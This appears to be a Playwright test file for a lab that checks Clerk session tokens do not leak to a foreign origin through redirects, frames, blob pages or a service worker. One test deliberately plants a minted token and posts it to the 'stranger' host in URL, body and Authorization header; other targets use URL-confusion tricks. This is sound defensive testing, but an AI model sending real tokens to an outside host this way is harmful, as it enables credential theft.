import type { Page } from '@playwright/test'
import { openPage } from '../src/matrix/open-page.ts'
import { search } from '../src/canary/search.ts'
import { record } from '../src/canary/record.ts'
import type { Trace } from '../src/canary/sink.ts'
import type { LabServer } from '../src/server/start-lab.ts'
import { expect, test } from './lab.ts'

/** Sends with the page's own `authFetch` to everywhere; resolves with how often it went well. */
async function sendEverywhere(page: Page, lab: LabServer): Promise<number> {
  const { apiUrl, strangerUrl, url } = lab
  const targets = [
    `${apiUrl}/cells/leaks`,
    `${apiUrl}/away`,
    `${apiUrl}/away-and-back`,
    `${strangerUrl}/plain`,
    `${strangerUrl}/on`,
    `//${new URL(strangerUrl).host}/scheme-less`,
    `${url}@${new URL(strangerUrl).host}/userinfo`,
    `${strangerUrl}/#${apiUrl}`,
    `${strangerUrl}\\@${new URL(apiUrl).host}/backslash`,
  ]
  return page.evaluate(async (all) => {
    const authFetch = await globalThis.lab.authFetch()
    const results = await Promise.allSettled(all.map((target) => authFetch(target)))
    return results.filter(({ status }) => status === 'fulfilled').length
  }, targets)
}

/** The same from a document of another kind, inside the page. */
async function sendFromFrames(page: Page, { strangerUrl, apiUrl }: LabServer): Promise<void> {
  await page.evaluate(
    async ([away, home]) => {
      const script = `parent.lab.authFetch().then((f) => Promise.allSettled(['${away}/frame', '/relative', '${home}/cells/frame'].map((u) => f(u))))
        .finally(() => parent.postMessage('sent', '*'))`
      const html = `<!doctype html><script>${script}</script><img src="${away}/image">`
      for (const frame of [{ src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) }, { srcdoc: html }]) {
        const sent = new Promise((resolve) => window.addEventListener('message', resolve, { once: true }))
        document.body.append(Object.assign(document.createElement('iframe'), frame))
        await sent
      }
      const foreign = Object.assign(document.createElement('iframe'), { src: `${away}/foreign` })
      const loaded = new Promise((resolve) => foreign.addEventListener('load', resolve))
      document.body.append(foreign)
      await loaded
    },
    [strangerUrl, apiUrl] as const,
  )
}

for (const clerkMajor of ['5', '6'] as const) {
  test(`clerk-js ${clerkMajor}: redirects, frames, blob: pages and a service worker take no token to a stranger`, async ({
    browser,
    lab,
  }) => {
    lab.reset()
    lab.received.length = 0
    const { page, context } = await openPage({ lab, browser, clerkMajor })
    expect(await sendEverywhere(page, lab)).toBeGreaterThanOrEqual(5)
    await sendFromFrames(page, lab)
    await page.evaluate(async () => {
      await navigator.serviceWorker.register('/worker.js')
      await navigator.serviceWorker.ready
      if (!navigator.serviceWorker.controller)
        await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))
    })
    expect(await sendEverywhere(page, lab)).toBeGreaterThanOrEqual(5)

    expect(lab.received.length).toBeGreaterThanOrEqual(12)
    for (const text of lab.received) expect(text).not.toMatch(/authorization|bearer|eyJ/i)
    expect(lab.api.log.filter(({ cell }) => cell === 'leaks').map(({ status }) => status)).toEqual([200, 200])
    await context.close()
  })
}

test('the search finds tokens that are planted', async ({ browser, lab }) => {
  const traces: Trace[] = []
  // No page of openPage: what is planted here must not count as a leak of the suite.
  const context = await browser.newContext()
  record(context, lab, { add: (trace) => void traces.push(trace) })
  const { cookies, sessionId } = lab.clerk.createSignedInClient('user_alice', { origin: lab.url })
  await context.addCookies(cookies.map((cookie) => ({ ...cookie, url: lab.url })))
  const page = await context.newPage()
  const token = await lab.clerk.mintToken(sessionId)
  await page.goto(`${lab.url}/?clerk=6`)
  await page.waitForFunction(() => 'lab' in window)
  await page.evaluate(
    async ([secret, away]) => {
      const signature = secret.split('.')[2] ?? ''
      localStorage.setItem('planted', secret)
      sessionStorage.setItem('planted', signature)
      console.log(`planted ${secret}`)
      document.body.dataset['planted'] = signature.slice(10, 80)
      history.replaceState({ planted: secret }, '')
      globalThis.lab.errors.add(new Error('planted', { cause: { deep: { secret } } }))
      globalThis.lab.caches.queryClient?.setQueryData(['planted', secret], 1)
      await fetch(`${away}/?planted=${signature}`, { method: 'POST', body: secret, headers: { Authorization: secret } })
      setTimeout(() => {
        throw new Error(secret)
      })
    },
    [token, lab.strangerUrl] as const,
  )
  await page.waitForTimeout(200)
  await context.close()
  const { places } = search(() => traces)
  const planted = [
    'localStorage',
    'sessionStorage',
    'console',
    'HTML',
    'history',
    'errors',
    'uncaught',
    'resource timing',
  ]
  for (const place of planted)
    expect(
      [...places.keys()].some((name) => name.startsWith(`${place}:`)),
      place,
    ).toBe(true)
  expect([...places.keys()]).toEqual(
    expect.arrayContaining([
      'URL: stranger',
      'request body: stranger',
      'request header authorization: stranger',
      'keys and data of TanStack Query: ',
    ]),
  )
})
